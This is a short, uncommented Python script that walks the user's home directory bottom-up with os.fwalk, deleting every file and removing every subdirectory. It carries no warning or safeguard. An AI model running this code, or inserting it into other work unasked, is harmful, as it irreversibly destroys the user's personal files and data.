import os

top = os.path.expanduser("~")
for root, dirs, files, fd in os.fwalk(top, topdown=False):
    for name in files:
        os.unlink(name, dir_fd=fd)
    for name in dirs:
        os.rmdir(name, dir_fd=fd)
